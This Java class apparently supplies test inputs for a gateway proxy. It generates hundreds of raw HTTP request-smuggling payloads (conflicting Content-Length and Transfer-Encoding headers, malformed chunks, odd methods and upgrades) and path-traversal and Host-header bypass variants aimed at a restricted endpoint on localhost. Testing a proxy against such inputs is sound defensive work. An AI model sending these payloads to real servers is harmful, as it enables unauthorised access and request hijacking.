package org.metagov.gateway.proxies;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * What a smuggler sends: bytes that a proxy and the server behind it may read differently, or paths
 * that lead one of them elsewhere. Each carries, somewhere, the request that must not arrive.
 */
final class Attacks {
  private static final String NAME = "127.0.0.1";

  private final String path;
  private final String smuggled;
  private final int length;
  private final String chunk;
  private final List<Attack> all = new ArrayList<>();

  /**
   * An attack.
   *
   * @param name what it is, for people
   * @param bytes what is sent, each character one byte
   */
  record Attack(String name, String bytes) {
    @Override
    public String toString() {
      return name;
    }
  }

  private Attacks(String path, String smuggled) {
    this.path = path;
    this.smuggled = smuggled;
    length = smuggled.length();
    chunk = Integer.toHexString(length) + "\r\n" + smuggled + "\r\n0\r\n\r\n";
  }

  /**
   * Returns those by which {@code smuggled}, a whole request, would come in behind another one, to
   * {@code path}.
   */
  static List<Attack> onTheFrame(String path, String smuggled) {
    Attacks attacks = new Attacks(path, smuggled);
    attacks.lengths();
    attacks.codings();
    attacks.chunks();
    attacks.lines();
    attacks.methods();
    attacks.upgrades();
    return List.copyOf(attacks.all);
  }

  /**
   * Returns those by which a request would come to {@code path}, which is not for everybody.
   *
   * @param headers lines of it
   * @param body its body
   */
  static List<Attack> onThePath(String path, String headers, String body) {
    return Stream.concat(targets(path), hosts(path))
        .map(
            line ->
                new Attack(
                    line.replaceAll("\r\n.*", "").strip() + " ...",
                    "PUT %s\r\n%sConnection: close\r\nContent-Length: %d\r\n\r\n%s"
                        .formatted(line, headers, body.length(), body)))
        .toList();
  }

  private static Stream<String> targets(String path) {
    String rest = path.substring("/api".length());
    return Stream.of(
            path,
            "/" + path,
            "/." + path,
            "/x/.." + path,
            "//" + path,
            "\\" + path,
            "/api/hooks/.." + rest,
            "/api/hooks/../.." + path,
            "/api/hooks/a/../.." + rest,
            "/api/action/.." + rest,
            "/api/hooks/%2e%2e" + rest,
            "/api/hooks/.%2e" + rest,
            "/api/hooks/%2E." + rest,
            "/api/hooks/..%2f" + rest.substring(1),
            "/api/hooks/..%2F..%2Fapi" + rest,
            "/api/hooks/%2e%2e%2f" + rest.substring(1),
            "/api/hooks%2f..%2f" + rest.substring(1),
            "/api/hooks/..%5c" + rest.substring(1),
            "/api/hooks/..\\" + rest.substring(1),
            "/api/hooks/..;" + rest,
            "/api/hooks/..;x=1" + rest,
            "/api/hooks/a;/../.." + rest,
            "/api/hooks;x=1/.." + rest,
            "/api/hooks/..%3b" + rest,
            "/api/hooks/%252e%252e" + rest,
            "/api/hooks/..%252f" + rest.substring(1),
            "/api/hooks/..%c0%af" + rest.substring(1),
            "/api/hooks/%c0%ae%c0%ae" + rest,
            "/api/hooks/..%00" + rest,
            "/api/hooks/%u002e%u002e" + rest,
            "/api/hooks/a/%2e%2e/%2e%2e" + rest,
            "/api/hooks/./.." + rest,
            "/api/hooks//.." + rest,
            "/api/hooks/a?/../../.." + path,
            "/api/hooks/a#/../../.." + path,
            path + "?/api/hooks/a",
            path + "#/api/hooks/a",
            path + ";/api/hooks/a",
            "/%61pi" + rest,
            "/api%2f" + rest.substring(1),
            "/api;x=1" + rest,
            "/API" + rest,
            "http://" + NAME + path,
            "http://localhost" + path,
            "http://" + NAME + "/api/hooks/.." + rest,
            "HTTP://" + NAME + "@localhost" + path,
            "http:" + path,
            "ftp://" + NAME + path,
            NAME + path,
            "*" + path,
            "@localhost" + path)
        .map(target -> target + " HTTP/1.1\r\nHost: " + NAME);
  }

  private static Stream<String> hosts(String path) {
    return Stream.of(
            "Host: localhost",
            "Host: localhost:8080",
            "Host: " + NAME + ", localhost",
            "Host: " + NAME + "\r\nHost: localhost",
            "Host: localhost\r\nHost: " + NAME,
            "Host: " + NAME + "@localhost",
            "Host: localhost#@" + NAME,
            "Host: " + NAME + "/api/hooks/a?",
            "Host: " + NAME + ":80/x",
            "Host:",
            "Host: ",
            "Host : localhost",
            " Host: localhost",
            "X-Original-URL: " + path + "\r\nHost: " + NAME,
            "X-Rewrite-URL: " + path + "\r\nHost: " + NAME,
            "X-Forwarded-Host: localhost\r\nHost: " + NAME)
        .flatMap(
            host ->
                Stream.of(
                    path + " HTTP/1.1\r\n" + host,
                    "http://" + NAME + path + " HTTP/1.1\r\n" + host,
                    "/api/hooks/x HTTP/1.1\r\n" + host));
  }

  /** Adds one whose head has these {@code headers}, with | between them, and {@code rest} after. */
  private void add(String headers, String rest) {
    all.add(
        new Attack(
            headers.replace("\r", "<CR>").replace("\n", "<LF>"),
            "POST "
                + path
                + " HTTP/1.1\r\nHost: "
                + NAME
                + "\r\n"
                + headers.replace("|", "\r\n")
                + "\r\n\r\n"
                + rest));
  }

  private void raw(String name, String bytes) {
    all.add(new Attack(name, bytes));
  }

  private void lengths() {
    for (String value :
        List.of(
            "0, " + length,
            length + ", 0",
            "0," + length,
            "+0",
            "-0",
            "-1",
            "0x0",
            "0;",
            "0 " + length,
            "0\t" + length,
            "0\u000b",
            "\"0\"",
            "0.0",
            "0e1",
            "",
            "a",
            "00000000000000000000000000",
            "18446744073709551616",
            "4294967296",
            "9223372036854775808",
            "99999999999999999999999999999")) {
      add("Content-Length: " + value, smuggled);
    }
    add("Content-Length: 0|Content-Length: " + length, smuggled);
    add("Content-Length: " + length + "|Content-Length: 0", smuggled);
    add("Content-Length: 0|Content-Length: 0", smuggled);
    add("Content-Length: 0|content-length: " + length, smuggled);
    add("Content-Length : " + length, smuggled);
    add("Content-Length\t: " + length, smuggled);
    add(" Content-Length: " + length, smuggled);
    add("Content_Length: " + length, smuggled);
    add("X: y\nContent-Length: " + length, smuggled);
    add("X: y\rContent-Length: " + length, smuggled);
    add("Content-Length: " + length + "\n", smuggled);
    add("Content-Length:|  " + length, smuggled);
    add("Content-Length: 0|  " + length, smuggled);
    add("Connection: Content-Length|Content-Length: " + length, smuggled);
    add("Content-Length: 0|Connection: close, X-Forwarded-For, Content-Length", smuggled);
    add("X: y", smuggled);
  }

  private void codings() {
    String end = "0\r\n\r\n" + smuggled;
    for (String coding :
        List.of(
            "chunked",
            "Chunked",
            " chunked",
            "\tchunked",
            "\u000bchunked",
            "chunked\u000b",
            "chunked ",
            "\"chunked\"",
            "'chunked'",
            "xchunked",
            "chunkedx",
            "chunked;a=b",
            "chunked, chunked",
            "chunked, identity",
            "identity, chunked",
            "gzip, chunked",
            "chunked, gzip",
            ",chunked",
            "chunked,",
            "identity",
            "")) {
      add("Content-Length: " + end.length() + "|Transfer-Encoding: " + coding, end);
      add("Content-Length: 4|Transfer-Encoding: " + coding, chunk);
      add("Transfer-Encoding: " + coding, end);
    }
    for (String header :
        List.of(
            "Transfer-Encoding : chunked",
            "Transfer-Encoding\t: chunked",
            " Transfer-Encoding: chunked",
            "Transfer_Encoding: chunked",
            "Transfer-Encoding: chunked|Transfer-Encoding: identity",
            "Transfer-Encoding: identity|Transfer-Encoding: chunked",
            "Transfer-Encoding: chunked|Transfer-Encoding: chunked",
            "Transfer-Encoding: chunked|Transfer-encoding: x",
            "X: y\nTransfer-Encoding: chunked",
            "X: y\rTransfer-Encoding: chunked",
            "X: y\u0000|Transfer-Encoding: chunked",
            "Transfer-Encoding:| chunked",
            "X: y| Transfer-Encoding: chunked",
            "Transfer-Encoding: chunked|Connection: Transfer-Encoding",
            "TE: chunked")) {
      add("Content-Length: " + end.length() + "|" + header, end);
      add("Content-Length: 4|" + header, chunk);
    }
    raw(
        "HTTP/1.0 with chunks",
        "POST "
            + path
            + " HTTP/1.0\r\nHost: "
            + NAME
            + "\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n"
            + end);
    raw(
        "HTTP/1.0 with chunks and a length",
        "POST "
            + path
            + " HTTP/1.0\r\nHost: "
            + NAME
            + "\r\nContent-Length: "
            + end.length()
            + "\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n"
            + end);
  }

  private void chunks() {
    String size = Integer.toHexString(length);
    for (String body :
        List.of(
            "0;a=b\r\n\r\n" + smuggled,
            "0;a=\"\r\n\r\n" + smuggled + "\"\r\n\r\n",
            "0;a\n\r\n" + smuggled,
            "0;\n\n" + smuggled,
            "2;\nxx\r\n" + size + "\r\n0\r\n\r\n" + smuggled,
            "0\n\n" + smuggled,
            "0\r\r" + smuggled,
            "0\r\n\n" + smuggled,
            "0 \r\n\r\n" + smuggled,
            " 0\r\n\r\n" + smuggled,
            "0x0\r\n\r\n" + smuggled,
            "+0\r\n\r\n" + smuggled,
            "-0\r\n\r\n" + smuggled,
            "-1\r\n\r\n" + smuggled,
            "00000000000000000000\r\n\r\n" + smuggled,
            "10000000000000000\r\n\r\n" + smuggled,
            "ffffffffffffffff\r\n\r\n" + smuggled,
            "g\r\n\r\n" + smuggled,
            "\r\n\r\n" + smuggled,
            "2\r\n{}0\r\n\r\n" + smuggled,
            "2\r\n{}xx0\r\n\r\n" + smuggled,
            "2\r\n{}\n0\r\n\r\n" + smuggled,
            "2\n{}\r\n0\r\n\r\n" + smuggled,
            "1\r\n{}\r\n0\r\n\r\n" + smuggled,
            "0\r\nContent-Length: " + length + "\r\n\r\n" + smuggled,
            "0\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk,
            "0\r\nX-Forwarded-For: 203.0.113.9\r\nHost: localhost\r\n\r\n" + smuggled,
            "0\r\n" + smuggled,
            "0\r\nX: y\n\n" + smuggled)) {
      all.add(
          new Attack(
              "a body of chunks: "
                  + body.substring(0, Math.min(20, body.length()))
                      .replace("\r", "<CR>")
                      .replace("\n", "<LF>"),
              "POST "
                  + path
                  + " HTTP/1.1\r\nHost: "
                  + NAME
                  + "\r\nTransfer-Encoding: chunked\r\n\r\n"
                  + body));
    }
  }

  private void lines() {
    String lf = ("POST " + path + " HTTP/1.1\nHost: " + NAME + "\nContent-Length: 0\n\n");
    raw("lines that end in LF", lf + smuggled);
    raw("lines that end in CR", lf.replace("\n", "\r") + smuggled);
    raw("a head that ends in LF", head("X: y").replace("\r\n\r\n", "\r\n\n") + smuggled);
    raw("a head that ends in LF CR LF", head("X: y").replace("\r\n\r\n", "\n\r\n") + smuggled);
    raw("lines before the first one", "\r\n\r\n" + head("Content-Length: 0") + smuggled);
    raw("HTTP/0.9", "GET " + path + "\r\n" + smuggled);
    raw("a version with a space", head("X: y").replace("HTTP/1.1", "HTTP/1.1 ") + smuggled);
    raw("HTTP/2.0 in a line", head("X: y").replace("HTTP/1.1", "HTTP/2.0") + smuggled);
    raw("HTTP/1.2", head("Content-Length: 0").replace("HTTP/1.1", "HTTP/1.2") + smuggled);
    raw("HTTP/1.10", head("Content-Length: 0").replace("HTTP/1.1", "HTTP/1.10") + smuggled);
    raw("a target with a line end", "POST " + path + "\rX HTTP/1.1\r\nHost: a\r\n\r\n" + smuggled);
    raw("tabs in the first line", head("X: y").replace(" /api", "\t/api") + smuggled);
    raw("a header without a colon", head("X") + smuggled);
    raw("a header without a name", head(": y") + smuggled);
    raw("a folded header", head("X: y\r\n " + smuggled.replace("\r\n\r\n", "\r\n \r\n ")));
    raw("NUL in a header", head("X: \u0000y") + smuggled);
    raw("a request in a header", head("X: y\r\r\n" + smuggled.strip()));
  }

  private void methods() {
    for (String method :
        List.of("TRACE", "CONNECT", "GET", "HEAD", "DELETE", "get", "DEBUG", "GPOST", "PRI")) {
      String head = head("Content-Length: " + length).replace("POST ", method + " ");
      raw(method + " with a body", head + smuggled);
      raw(
          method + " with chunks",
          head("Transfer-Encoding: chunked").replace("POST ", method + " ") + chunk);
    }
    raw(
        "CONNECT to a port",
        "CONNECT 127.0.0.1:8080 HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n\r\n" + smuggled);
    raw("HTTP/2 at once", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + smuggled);
  }

  private void upgrades() {
    for (String protocol : List.of("h2c", "websocket", "odd", "TLS/1.0", "h2c, websocket")) {
      String upgrade = "Connection: Upgrade, HTTP2-Settings|Upgrade: " + protocol;
      String settings = "|HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA";
      add(upgrade + settings, smuggled);
      add(upgrade + settings + "|Content-Length: 0", smuggled);
      add(upgrade + "|Content-Length: " + length, smuggled);
      add(upgrade + "|Transfer-Encoding: chunked", chunk);
      raw(
          "GET and Upgrade: " + protocol,
          head((upgrade + settings).replace("|", "\r\n")).replace("POST ", "GET ") + smuggled);
    }
    add("Expect: 100-continue|Content-Length: " + length, smuggled);
    add("Expect: 100-continue|Transfer-Encoding: chunked", "0\r\n\r\n" + smuggled);
    add("Expect: odd|Content-Length: " + length, smuggled);
  }

  private String head(String header) {
    return "POST " + path + " HTTP/1.1\r\nHost: " + NAME + "\r\n" + header + "\r\n\r\n";
  }
}
